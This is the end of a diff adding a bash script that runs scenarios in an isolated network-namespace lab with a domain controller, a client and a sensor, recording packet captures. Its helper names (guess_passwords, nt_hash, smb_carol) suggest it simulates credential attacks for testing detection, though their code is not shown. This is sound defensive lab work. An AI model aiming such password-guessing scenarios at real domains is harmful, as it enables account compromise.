+    timeout 300 bash -c 'in_client "$@"' _ "set -Eeo pipefail; $(declare -f expect_in nt_hash guess_passwords kinit_carol smb_carol ldap_carol "scenario_$name"); scenario_$name" \
+        >>"$log" 2>&1 || rc=$?
+    if [ -n "$capture" ]; then
+        capture_stop "$capture" "$pcap"
+        frames=", $(tcpdump -nr "$pcap" 2>/dev/null | wc -l) frames in $pcap"
+    fi
+    if [ $rc = 0 ]; then
+        log "scenario $name: ok ($((SECONDS - started)) s$frames)"
+    else
+        log "scenario $name: FAILED, rc $rc ($((SECONDS - started)) s$frames); the end of $log:"
+        tail -8 "$log" >&2
+    fi
+    return $rc
+}
+
+cmd_scenario() {
+    local name failed=""
+    [ $# -gt 0 ] || die "usage: lab.sh scenario list|all|NAME..."
+    if [ "$1" = list ]; then
+        for name in $SCENARIOS; do printf '%-20s %s\n' "$name" "${WHAT[$name]}"; done
+        return 0
+    fi
+    [ "$1" = all ] && set -- $SCENARIOS
+    for name in "$@"; do scenario_exists "$name" || die "no scenario $name (lab.sh scenario list)"; done
+    require_up
+    for name in "$@"; do run_scenario "$name" || failed+=" $name"; done
+    if [ -n "$failed" ]; then
+        log "$# scenarios, failed:$failed"
+        return 1
+    fi
+    log "$# scenarios, all ok"
+}
+
+# ------------------------------------------------------------------------------ main
+
+[ "$(id -u)" = 0 ] || die "the lab must run as root: it makes network namespaces and installs packages"
+# run_scenario's timeout runs in_client in a new bash: it needs these.
+export -f in_client
+export CLIENT NS_CLIENT
+
+case ${1:-} in
+up) cmd_up ;;
+down) cmd_down ;;
+status) cmd_status ;;
+scenario)
+    shift
+    cmd_scenario "$@"
+    ;;
+check-mirror) cmd_check_mirror ;;
+exec)
+    shift
+    [ $# -ge 2 ] || die "usage: lab.sh exec dc|client|sensor CMD..."
+    where=$1
+    shift
+    case $where in
+    dc) in_dc "$*" ;;
+    client) in_client "$*" ;;
+    sensor) in_sensor "$*" ;;
+    *) die "exec: no namespace $where (dc, client or sensor)" ;;
+    esac
+    ;;
+*)
+    sed -n '2,14p' "$0" >&2
+    exit 2
+    ;;
+esac
